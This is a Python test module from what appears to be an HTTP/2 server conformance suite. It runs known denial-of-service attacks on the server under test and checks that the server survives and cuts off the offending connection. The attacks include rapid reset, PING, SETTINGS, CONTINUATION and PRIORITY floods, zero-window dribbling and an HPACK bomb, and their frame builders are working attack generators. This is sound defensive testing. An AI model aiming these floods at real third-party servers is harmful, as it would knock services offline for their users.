"""The HTTP/2 denial-of-service family (issue 14): the published attacks on HTTP/2 servers,
each run for a few seconds against the server's h2 listener.

Each attack is judged the same way (:mod:`conformance.suite._h2_dos`): a well-behaved
client on a second connection must keep getting answers during and after it, the
server's resident memory must not grow by more than 64 MiB, and the offending
connection should be ended (GOAWAY, ideally ENHANCE_YOUR_CALM, or a close). RFC 9113
§10.5 makes limits a SHOULD, so falling short is *non-strict* with what was measured;
a server that crashes is an *error* of the harness kind ("the server process exited
during this case"), which is evidence of a real fault.

Three shapes:

* **floods** (:data:`FLOODS`): one frame pattern repeated, optionally after a
  prelude that opens a stream: rapid reset, PING, SETTINGS, reset-soliciting invalid
  requests, empty DATA frames, PRIORITY reshuffling, CONTINUATION;
* **responses the client does not take** (:data:`HOARDS`): large responses to a
  client whose window opens a byte at a time (data dribble) or whose TCP window stays
  shut (internal data buffering). Here the question is whether the app's ``send()``
  is held back rather than the response buffered; a server cannot tell a slow reader
  from an attacker within seconds, so ending the connection is welcome, not required;
* **the HPACK bomb**: a 32 KiB header block that decodes to a ~32 MiB header list.

Every verdict depends on timing (a loaded machine slows the bystander, a server may cut
off the offender just after the bound), hence ``timing_dependent`` throughout.
"""

from __future__ import annotations

import itertools
import struct
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass

import pytest

from conformance.h2probe import H2Probe
from conformance.rawh2 import (
    DEFAULT_MAX_FRAME,
    END_HEADERS,
    END_STREAM,
    ErrorCode,
    FrameType,
    H2Connection,
    Setting,
    error_name,
    frame_bytes,
    settings_payload,
)
from conformance.suite._h2_dos import (
    ATTACK_TIME,
    MiB,
    Offender,
    chunked,
    cut_off,
    mib,
    never_indexed,
    repeated,
    survived,
    watching,
)
from conformance.verdicts import NoResponse, not_applicable

req = pytest.mark.requirement
TIMING = ("a loaded machine can slow the well-behaved client past its bound, and a server "
          "may end the offending connection just after the bound")

Chunks = Iterator[tuple[bytes, int]]


# --- floods -----------------------------------------------------------------------------


@dataclass(frozen=True)
class Flood:
    """One flood: ``build`` returns the prelude (sent first, e.g. a stream to flood) and
    the chunks; ``reads`` says whether the client reads between chunks."""

    attack: str
    what: str
    """What one unit of the flood is, for the frame log (e.g. "PING frames")."""
    reads: bool
    build: Callable[[H2Probe, H2Connection], tuple[bytes, Chunks]]
    keeps: bool = False
    """Whether a vulnerable server keeps the flood's bytes (memory growing with them is
    unbounded even below the 64 MiB bound)."""


def request_fields(h2probe: H2Probe, conn: H2Connection, scenario: str,
                   args: dict[str, object], suffix: str,
                   ) -> list[tuple[bytes, bytes]]:
    """A GET to the probe app under a probe id of its own (``<case id>-<suffix>``), so
    that what a flood makes the app record stays out of the case's evidence."""
    probe = h2probe.probe_headers(scenario, args, probe_id=f"{h2probe.id}-{suffix}")
    return conn.request_headers("GET", "/", headers=probe)


def stable_block(conn: H2Connection, fields: list[tuple[bytes, bytes]]) -> Iterator[bytes]:
    """Header blocks for ``fields``, one per request: the first inserts the fields into
    both dynamic tables, every later one is the same indexed block (re-encoded only if
    the encoder would change it)."""
    first = conn.encode(fields)
    again = conn.encode(fields)
    yield first
    if conn.encode(fields) == again:
        yield from itertools.repeat(again)
    while True:
        yield conn.encode(fields)


def build_rapid_reset(h2probe: H2Probe, conn: H2Connection) -> tuple[bytes, Chunks]:
    """Each unit opens a stream with a complete GET and cancels it at once: the streams
    never count against SETTINGS_MAX_CONCURRENT_STREAMS, yet each may start the app."""
    fields = request_fields(h2probe, conn, "respond", {"read_body": False}, "flood")
    blocks = stable_block(conn, fields)
    cancel = struct.pack("!I", ErrorCode.CANCEL)

    def units() -> Iterator[bytes]:
        for block in blocks:
            sid = conn.new_stream()
            yield (frame_bytes(FrameType.HEADERS, END_STREAM | END_HEADERS, sid, block)
                   + frame_bytes(FrameType.RST_STREAM, 0, sid, cancel))

    return b"", chunked(units())


def build_ping(h2probe: H2Probe, conn: H2Connection) -> tuple[bytes, Chunks]:
    """PINGs, each of which the server must ACK, from a client that reads none."""
    return b"", repeated(frame_bytes(FrameType.PING, 0, 0, b"h2dosflo"))


def build_settings(h2probe: H2Probe, conn: H2Connection) -> tuple[bytes, Chunks]:
    """SETTINGS frames (each needs an ACK) that change nothing: ENABLE_PUSH 0, the
    default window again, and an undefined setting the server must ignore."""
    payload = settings_payload([(Setting.ENABLE_PUSH, 0),
                                (Setting.INITIAL_WINDOW_SIZE, 65_535), (0xF00D, 1)])
    return b"", repeated(frame_bytes(FrameType.SETTINGS, 0, 0, payload))


def build_reset_flood(h2probe: H2Probe, conn: H2Connection) -> tuple[bytes, Chunks]:
    """Malformed requests (an uppercase field name, RFC 9113 §8.2.1), each a stream
    error that solicits a RST_STREAM (or a connection error, which ends the attack)."""
    fields = request_fields(h2probe, conn, "respond", {"read_body": False}, "flood")
    blocks = stable_block(conn, [*fields, (b"X-Uppercase", b"1")])

    def units() -> Iterator[bytes]:
        for block in blocks:
            yield frame_bytes(FrameType.HEADERS, END_STREAM | END_HEADERS, conn.new_stream(),
                              block)

    return b"", chunked(units())


def build_empty_data(h2probe: H2Probe, conn: H2Connection) -> tuple[bytes, Chunks]:
    """A request body of empty DATA frames without END_STREAM, to an app that sleeps
    rather than reads (so the app's own records do not grow with the flood)."""
    sid = conn.new_stream()
    fields = request_fields(h2probe, conn, "script",
                            {"steps": [["sleep", ATTACK_TIME + 6.0]]}, "stream")
    prelude = frame_bytes(FrameType.HEADERS, END_HEADERS, sid, conn.encode(fields))
    return prelude, repeated(frame_bytes(FrameType.DATA, 0, sid, b""))


PRIORITY_STREAMS = 256


def priority_round(shift: int) -> bytes:
    """One PRIORITY frame for each of 256 idle streams, each made to depend on a lower
    stream (so no dependency loop can form: some servers end the connection on a loop,
    RFC 7540 §5.3.3 says to break it) chosen by ``shift``, with a varying weight."""
    return b"".join(
        frame_bytes(FrameType.PRIORITY, 0, 1 + 2 * k,
                    struct.pack("!IB", (1 + 2 * ((k * 37 + shift) % k)) if k else 0,
                                (k * 7 + shift) % 256))
        for k in range(PRIORITY_STREAMS))


def build_priority(h2probe: H2Probe, conn: H2Connection) -> tuple[bytes, Chunks]:
    """Rounds of PRIORITY frames over 256 idle streams, alternating between two
    dependency trees, so a server that keeps a priority tree rebuilds it every round
    (RFC 9113 §5.3.2 deprecates the scheme but still allows the frames)."""
    cycle = priority_round(1) + priority_round(2)
    return b"", ((chunk, count * 2 * PRIORITY_STREAMS) for chunk, count in repeated(cycle))


def build_continuation(h2probe: H2Probe, conn: H2Connection) -> tuple[bytes, Chunks]:
    """A request whose header block never ends: HEADERS without END_HEADERS, then
    CONTINUATION frames of valid 4000-byte fields, never the last one."""
    sid = conn.new_stream()
    fields = request_fields(h2probe, conn, "respond", {"read_body": False}, "stream")
    prelude = frame_bytes(FrameType.HEADERS, END_STREAM, sid, conn.encode(fields))
    line = never_indexed(b"x-continued", b"v" * 4000)
    fragment = line * (DEFAULT_MAX_FRAME // len(line))
    return prelude, repeated(frame_bytes(FrameType.CONTINUATION, 0, sid, fragment))


FLOODS = [
    pytest.param(Flood("rapid reset (CVE-2023-44487)", "requests opened and reset", True,
                       build_rapid_reset), marks=req("RFC9113-10.5-1"), id="rapid_reset"),
    pytest.param(Flood("PING flood (CVE-2019-9512)", "PING frames", False, build_ping),
                 marks=req("RFC9113-10.5-2"), id="ping_flood"),
    pytest.param(Flood("SETTINGS flood (CVE-2019-9515)", "SETTINGS frames", False,
                       build_settings), marks=req("RFC9113-10.5-3"), id="settings_flood"),
    pytest.param(Flood("reset flood (CVE-2019-9514)", "malformed requests", False,
                       build_reset_flood), marks=req("RFC9113-10.5-4"), id="reset_flood"),
    pytest.param(Flood("empty frames flood (CVE-2019-9518)", "empty DATA frames", True,
                       build_empty_data), marks=req("RFC9113-10.5-5"), id="empty_frames"),
    pytest.param(Flood("PRIORITY flood (CVE-2019-9513)", "PRIORITY frames", True,
                       build_priority), marks=req("RFC9113-10.5-6"), id="priority_flood"),
    pytest.param(Flood("CONTINUATION flood (CVE-2024-27316)", "CONTINUATION frames", True,
                       build_continuation, keeps=True), marks=req("RFC9113-10.5.1-1"),
                 id="continuation_flood"),
]


@pytest.mark.timing_dependent(TIMING)
@pytest.mark.parametrize("flood", FLOODS)
def test_flood_is_survived_and_cut_off(h2probe, flood):
    """A flood for a few seconds (at most 16 MiB) on one connection: others are still
    served, memory stays within 64 MiB of its level before, and the offending connection
    is ended (RFC 9113 §10.5: "An endpoint MAY treat activity that is suspicious as a
    connection error of type ENHANCE_YOUR_CALM")."""
    with watching(h2probe) as watch:
        offender = Offender(watch.attacker())
        prelude, chunks = flood.build(h2probe, offender.conn)
        if prelude:
            offender.send(prelude, time.monotonic() + 1.0)
        offender.flood(chunks, reads=flood.reads, what=flood.what)
        ended = offender.wait_end()
    survived(watch, f"{flood.attack}: {offender.describe()}",
             offender.sent if flood.keeps else None)
    cut_off(watch, offender, ended)


# --- responses the client does not take ---------------------------------------------------

RESPONSE_STREAMS = 8
RESPONSE_CHUNK = MiB // 4
RESPONSE_CHUNKS = 64
"""Each stream asks for 64 chunks of 256 KiB: 128 MiB in all, far more than the kernel's
socket buffers hold, so a server that takes it all is buffering it in memory."""
HELD_PER_STREAM = 10
"""Chunks (2.5 MiB) per stream the app's send() may complete while the client takes
nothing: a server holds send() back with a small queue per stream (granian's takes 6
chunks, whatever their size); one that keeps taking them buffers the response."""
MAX_WINDOW = 2**31 - 1


@dataclass(frozen=True)
class Hoard:
    """A client that asks for large responses and does not take them."""

    attack: str
    settings: dict[int, int]
    dribble: bool
    """Open the stream windows a byte at a time (else: open every window wide, read
    nothing)."""
    in_flight: int
    """Bytes of response the kernel's socket buffers may hold on top of the server's
    queues (none when no window is open)."""


HOARDS = [
    pytest.param(Hoard("zero-window data dribble (CVE-2019-9511)",
                       {Setting.INITIAL_WINDOW_SIZE: 0}, True, 0),
                 marks=req("RFC9113-10.5-7"), id="data_dribble"),
    pytest.param(Hoard("internal data buffering (CVE-2019-9517)",
                       {Setting.INITIAL_WINDOW_SIZE: MAX_WINDOW}, False, 16 * MiB),
                 marks=req("RFC9113-10.5-8"), id="internal_buffering"),
]


def accepted_chunks(h2probe: H2Probe, probe_id: str) -> tuple[int, int]:
    """(calls, completed body sends) the app recorded for the large responses."""
    records = h2probe.log.records(probe_id)
    calls = sum(r.kind == "call" for r in records)
    return calls, sum(r.kind == "flood" and bool(r.data.get("ok")) for r in records)


def wait_settled(h2probe: H2Probe, probe_id: str, budget: float) -> tuple[int, int]:
    """Poll the app's progress until it stops moving for 0.5 s or ``budget`` passes."""
    deadline = time.monotonic() + budget
    last, since = accepted_chunks(h2probe, probe_id), time.monotonic()
    while time.monotonic() < deadline:
        time.sleep(0.1)
        now = accepted_chunks(h2probe, probe_id)
        if now != last:
            last, since = now, time.monotonic()
        elif now[0] and time.monotonic() - since >= 0.5:
            break
    return last


@pytest.mark.timing_dependent(TIMING)
@pytest.mark.parametrize("hoard", HOARDS)
def test_responses_not_taken_are_not_buffered(h2probe, hoard):
    """Eight streams each ask for a 16 MiB response (the app sends 256 KiB chunks) from a
    client that does not take them: with a zero window opened one byte at a time, or with
    every window open and nothing read. Others are still served, memory stays within
    64 MiB, and the app's send() is held back (at most 10 chunks a stream complete, plus
    16 MiB for the socket buffers when the windows are open), as
    RFC 9113 §10.5 warns a server that "constructs and remembers frames for sending
    without considering TCP limits"."""
    probe_id = f"{h2probe.id}-large"
    steps = [["send", {"type": "http.response.start", "status": 200,
                       "headers": [(b"content-type", b"application/octet-stream")]}],
             ["flood", RESPONSE_CHUNKS, RESPONSE_CHUNK]]
    with watching(h2probe) as watch:
        conn = watch.attacker(settings=hoard.settings, auto_window=False)
        offender = Offender(conn)
        if not hoard.dribble:
            conn.send_window_update(0, MAX_WINDOW - 65_535)
        streams = min(RESPONSE_STREAMS,
                      conn.server_settings.get(Setting.MAX_CONCURRENT_STREAMS, 100))
        probe = h2probe.probe_headers("script", {"steps": steps}, probe_id=probe_id)
        sids = [conn.request("GET", "/", headers=probe) for _ in range(streams)]
        if hoard.dribble:
            update = b"".join(
                frame_bytes(FrameType.WINDOW_UPDATE, 0, sid, struct.pack("!I", 1))
                for sid in [*sids, 0])
            offender.flood(repeated(update), reads=False,
                           what="rounds of WINDOW_UPDATE +1 on every stream")
            calls, taken = wait_settled(h2probe, probe_id, 0.5)
        else:
            started = time.monotonic()
            calls, taken = wait_settled(h2probe, probe_id, ATTACK_TIME)
            offender.elapsed = time.monotonic() - started
            offender.stopped = "the client read nothing"
        ended = offender.wait_end()
    progress = (f"the app was called for {calls} of {streams} requests and send() completed "
                f"for {taken} of {streams * RESPONSE_CHUNKS} chunks of 256 KiB")
    h2probe.notes.append(progress)
    survived(watch, f"{hoard.attack}: {offender.describe()}; {progress}")
    if ended:
        cut_off(watch, offender, ended)
        return
    assert calls, (f"the app was not called for any of the {streams} requests within "
                   f"{ATTACK_TIME:g} s, so the response could not be made large: {progress}")
    limit = streams * HELD_PER_STREAM + hoard.in_flight // RESPONSE_CHUNK
    assert taken <= limit, (
        f"{progress} (at most {limit} expected) while the client took (almost) nothing: "
        f"the server queues responses in memory instead of holding send() back (the app "
        f"sends one bytes object over and over, so a queue of references to it hardly "
        f"shows in RSS; {watch.describe()})")


# --- the HPACK bomb -----------------------------------------------------------------------

BOMB_NAME = b"x-bomb"
BOMB_VALUE = 1024
BOMB_FRAMES = 2
BOMB_BOUND = 3.0


@req("RFC9113-10.5.1-2")
@pytest.mark.timing_dependent(TIMING)
def test_hpack_bomb_is_refused(h2probe):
    """One header block of two 16 KiB frames: a 1 KiB field inserted into the dynamic
    table (RFC 7541 §6.2.1), then the one-byte reference to it (index 62) repeated to the
    end: ~32 MiB of header list. The server refuses it (431 or another 4xx, RST_STREAM, a
    connection error or a close) rather than decoding it whole and calling the app, while
    serving others and staying within 64 MiB."""
    probe_id = f"{h2probe.id}-bomb"
    with watching(h2probe) as watch:
        conn = watch.attacker()
        table = min(4096, conn.server_settings.get(Setting.HEADER_TABLE_SIZE, 4096))
        room = table - 32 - len(BOMB_NAME)
        if room < 64:
            not_applicable(f"the server's SETTINGS_HEADER_TABLE_SIZE {table} leaves no "
                           "room for a dynamic-table entry worth referencing")
        value = b"a" * min(BOMB_VALUE, room)
        fields = conn.request_headers("GET", "/", headers=h2probe.probe_headers(
            "respond", {"read_body": False, "body": b"bomb accepted"},
            probe_id=probe_id))
        block = conn.encode([*fields, (BOMB_NAME, value)])
        refs = BOMB_FRAMES * DEFAULT_MAX_FRAME - len(block)
        block += b"\xbe" * refs  # indexed field line 62: the newest dynamic entry
        decoded = refs * (len(BOMB_NAME) + len(value) + 32)
        sid = conn.new_stream()
        parts = [block[i:i + DEFAULT_MAX_FRAME]
                 for i in range(0, len(block), DEFAULT_MAX_FRAME)]
        conn.send(frame_bytes(FrameType.HEADERS, END_STREAM, sid, parts[0])
                  + b"".join(frame_bytes(FrameType.CONTINUATION,
                                         END_HEADERS if part is parts[-1] else 0, sid,
                                         part) for part in parts[1:]))
        conn.frame_log.append(("sent", time.monotonic(),
                               f"[HPACK bomb: HEADERS+CONTINUATION stream={sid}, "
                               f"{len(block)} B decoding to {mib(decoded)}]"))
        try:
            response = conn.read_stream(sid, timeout=BOMB_BOUND)
            answer = (f"RST_STREAM {error_name(response.reset)}"
                      if response.reset is not None else f"status {response.status}")
            refused = response.reset is not None or (response.status or 0) >= 400
        except NoResponse as exc:
            ended = ("GOAWAY " + error_name(conn.goaway.error_code) if conn.goaway
                     else f"the connection {conn.peer_closed}" if conn.peer_closed
                     else None)
            answer, refused = ended or str(exc), ended is not None
    called = any(r.kind == "call" for r in h2probe.log.records(probe_id))
    limit = conn.server_settings.get(Setting.MAX_HEADER_LIST_SIZE)
    attack = (f"HPACK bomb (CVE-2016-6581): {len(block)} B decoding to {mib(decoded)} "
              f"(the server advertised SETTINGS_MAX_HEADER_LIST_SIZE "
              f"{limit if limit is not None else 'unlimited (absent)'}); answer: {answer}; "
              f"the app was {'called' if called else 'not called'}")
    survived(watch, attack)
    assert refused and not called, (
        f"the server did not refuse a header list of {mib(decoded)}: {attack}")
